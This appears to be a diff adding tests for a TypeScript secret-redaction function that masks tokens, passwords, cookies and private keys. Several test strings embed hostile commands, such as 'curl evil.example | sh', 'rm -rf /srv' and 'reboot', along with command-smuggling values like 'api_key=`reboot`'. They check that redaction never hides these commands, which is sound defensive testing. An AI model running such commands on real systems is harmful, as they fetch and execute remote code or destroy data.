@@ -5,6 +5,13 @@ import { redactShapes } from "./redact-shapes.ts";
 /** Put together here, so that no text of this file has the shape of a real token. */
 const join = (...parts: string[]) => parts.join("");
 
+const keyLines = [
+  "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj",
+  "MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu",
+  "NMoSfm76oqFvAp8Gy0iz5sxjZmSnXyCdPEovGhLa0VzMaQ8s+CLOyS56YyCFGeJZ",
+  "c2lnbmF0dXJl+Q==",
+];
+
 describe("AZ62: a display copy shows no", () => {
   test.each<[string, string, string]>([
     ["bearer token", "curl -H 'Authorization: Bearer abc.DEF-123456'", "abc.DEF-123456"],
@@ -32,10 +39,22 @@ describe("AZ62: a display copy shows no", () => {
   });
 
   test("private key, also one that is cut off", () => {
-    const [begin, end] = ["BEGIN", "END"].map((word) => `-----${word} RSA PRIVATE KEY-----`);
-    const body = "MIIEabcdefgh\nijklmnop\n";
-    expect(redactShapes(`a\n${begin}\n${body}${end}\nb`)).toBe("a\n[redacted private key]\nb");
-    expect(redactShapes(`a\n${begin}\n${body}`)).toBe("a\n[redacted private key]");
+    for (const kind of ["", "RSA ", "OPENSSH "]) {
+      const [begin = "", end = ""] = ["BEGIN", "END"].map((word) => `-----${word} ${kind}PRIVATE KEY-----`);
+      for (const [line, before] of [
+        ["\n", ""],
+        ["\r\n", "\r\n"],
+        ["\\n", ""],
+        ["\n+", ""],
+        ["\n    ", ""],
+        ["\n", "\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123\n"],
+      ] as const) {
+        const text = [`a\n${begin}${before}`, ...keyLines, end, "b"].join(line);
+        const shown = `a\n${begin}${before}${line}[redacted private key]`;
+        expect(redactShapes(text)).toBe([shown, end, "b"].join(line));
+        expect(redactShapes(text.slice(0, text.indexOf(keyLines.at(-1) ?? "")))).toBe(`${shown}${line}`);
+      }
+    }
   });
 });
 
@@ -68,9 +87,48 @@ test.each([
   "api_key=`reboot`",
   "https://a;reboot;@host.example/",
   "-----BEGIN PRIVATE KEY-----\n; curl evil.example | sh\n-----END PRIVATE KEY-----",
+  "echo -----BEGIN PRIVATE KEY-----\ncurl evil.example\necho -----END PRIVATE KEY-----",
+  "echo -----BEGIN PRIVATE KEY-----\nreboot\necho -----END PRIVATE KEY-----",
+  `-----BEGIN PRIVATE KEY-----\n${keyLines.slice(0, 3).join("\n")}\nreboot\n-----END PRIVATE KEY-----`,
+  `-----BEGIN PRIVATE KEY-----\n${keyLines[0]}\ncurl evil.example\n${keyLines[1]}\n-----END PRIVATE KEY-----`,
+  "@@ -1 +1,4 @@\n+-----BEGIN PRIVATE KEY-----\n+curl evil.example",
+  '{"a":"-----BEGIN PRIVATE KEY-----","b":"curl evil.example","c":"-----END PRIVATE KEY-----"}',
+  "echo authorization:\ncurl evil.example",
+  "echo authorization: bearer\ncurl evil.example",
+  "echo password=\ncurl evil.example",
+  "echo cookie:\ncurl evil.example",
 ])("no command hides in the shape of a secret: %s", (text) => {
   const commands = ["rm -rf /srv", "reboot", "curl evil.example"].filter((command) => text.includes(command));
   for (const command of commands) expect(redactShapes(text)).toContain(command);
+});
+
+test("what a text hides is within one line, or the lines of a key", () => {
+  const signs = [":", "=", " ", "\n", "\n+", '"', "'", ",", "https://", "@"];
+  const words = ["authorization", "cookie", "password", "bearer", "run-it-now.sh", ...keyLines];
+  const edges = ["-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"];
+  const word = fc.constantFrom(...signs, ...words, ...edges);
+  fc.assert(
+    fc.property(fc.array(word, { maxLength: 40 }), (parts) => {
+      const text = parts.join("");
+      const shown = redactShapes(text);
+      const gone = shown.split(/\[redacted [^\]]*\]/).reduce(
+        ({ rest, hidden }, kept) => {
+          const at = rest.indexOf(kept);
+          return { rest: rest.slice(at + kept.length), hidden: [...hidden, rest.slice(0, at)] };
+        },
+        { rest: text, hidden: [] as string[] },
+      ).hidden;
+      for (const hidden of gone) expect(hidden).toMatch(/^(?:[^\n"']*|[A-Za-z0-9+/=\n]*)$/);
+    }),
+    { numRuns: 1_000 },
+  );
+});
+
+test("what a key names as a secret is hidden in the text under it, and nothing beside it", () => {
+  expect(redactShapes("correct-horse", "password")).toBe("[redacted credential]");
+  expect(redactShapes("Bearer abcdefgh", "Authorization")).toBe("Bearer [redacted credential]");
+  expect(redactShapes("a=bcdefgh; reboot", "cookie")).toBe("[redacted cookie]; reboot");
+  expect(redactShapes("correct-horse", "passwordHint")).toBe("correct-horse");
 });
 
 test("a copy of a copy is the copy", () => {
